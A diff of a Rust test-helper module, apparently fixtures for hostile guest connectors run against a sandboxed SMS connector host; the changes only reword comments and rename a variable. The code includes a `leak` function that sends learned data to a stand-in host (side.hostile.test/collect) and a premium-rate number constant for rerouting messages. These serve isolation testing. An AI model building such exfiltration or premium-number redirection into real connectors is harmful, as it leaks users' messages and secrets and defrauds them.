@@ -1,4 +1,4 @@
-//! The honest request that the behaviours bend.
+//! The honest request that the behaviours modify.
 
 use crate::bindings::sendbox::connector::config;
 use crate::bindings::sendbox::connector::http_outbound::{self, Error, Header, Method, Request, RequestSent, Response};
@@ -15,10 +15,10 @@ pub const LIST: &str = "https://api.hostile.test/list/messages";
 pub const XML: &str = "https://api.hostile.test/xml/messages";
 /// A query with `to` (e164) and `text`.
 pub const QUERY: &str = "https://api.hostile.test/query/messages";
-/// A host that may be reached, and may have neither message nor secret.
+/// A host that is granted, but receives neither the message nor a secret.
 pub const SIDE: &str = "https://side.hostile.test/collect";
 
-/// A premium number, of whoever wrote this.
+/// A premium number of the guest's author.
 pub const SECOND: &str = "19005550199";
 
 /// A literal part.
@@ -31,7 +31,7 @@ pub fn token() -> Sealed {
     config::secret("token").expect("the test gives a token")
 }
 
-/// The message's text, or whatever stands for it.
+/// The message's text, or the variable `code` in its place.
 pub fn content(message: &Message) -> &Sealed {
     match &message.content {
         Content::Text(content) => &content.text,
@@ -40,17 +40,17 @@ pub fn content(message: &Message) -> &Sealed {
     }
 }
 
-/// In the form serialiser's encoding.
+/// The value in the encoding of the form serialiser.
 pub fn form(value: &Sealed) -> Sealed {
     value.encode(Encoding::Form)
 }
 
-/// As the inside of a JSON string.
+/// The value as the content of a JSON string.
 pub fn json(value: &Sealed) -> Sealed {
     value.encode(Encoding::JsonString)
 }
 
-/// For one value in a URL.
+/// The value percent-encoded, for a URL.
 pub fn percent(value: &Sealed) -> Sealed {
     value.encode(Encoding::Percent)
 }
@@ -99,8 +99,8 @@ pub fn post_parts(url: &str, content_type: &str, body: Vec<Part<'_>>) -> Result<
 
 /// `POST` of JSON: `before`, the number, `between`, the text, `after`.
 pub fn post_json(message: &Message, before: &str, between: &str, after: &str) -> Result<Response, Error> {
-    let (to, said) = (json(&message.recipient.e164), json(content(message)));
-    let body = vec![text(before), Part::Sealed(&to), text(between), Part::Sealed(&said), text(after)];
+    let (to, encoded_text) = (json(&message.recipient.e164), json(content(message)));
+    let body = vec![text(before), Part::Sealed(&to), text(between), Part::Sealed(&encoded_text), text(after)];
     post_parts(JSON, "application/json", body)
 }
 
@@ -111,18 +111,18 @@ pub fn post_xml(message: &Message, before: &str, between: &str, after: &str) -> 
     post_parts(XML, "application/xml", body)
 }
 
-/// Carries off what was learned: `GET` of the side host, in clear.
+/// Exfiltrates what was learned: a `GET` request to the side host, in clear text.
 pub fn leak(learned: &str) -> Result<Response, Error> {
     let url = vec![text(SIDE), text("/"), text(learned)];
     http_outbound::send(&Request { method: Method::Get, url, headers: vec![], body: vec![] })
 }
 
-/// `GET` of the side host.
+/// A `GET` request to the side host.
 pub fn get_side() -> Result<Response, Error> {
     http_outbound::send(&Request { method: Method::Get, url: vec![text(SIDE)], headers: vec![], body: vec![] })
 }
 
-/// The honest answer to an answer. A failure's text says all that this connector was told.
+/// The honest result for a response. A failure's text contains everything that this connector learned.
 pub fn answer(result: Result<Response, Error>) -> Result<Receipt, Failure> {
     match result {
         Ok(response) if (200..300).contains(&response.status) => {
@@ -150,7 +150,7 @@ pub fn receipt() -> Receipt {
     Receipt { message_id: Some("m-1".into()), status: None, segments: None, price: None }
 }
 
-/// A failure in the connector's own words.
+/// A failure with this text.
 pub fn failure(class: FailureClass, text: &str) -> Failure {
     Failure { class, provider_code: None, text: Some(text.to_owned()), retry_after_seconds: None }
 }
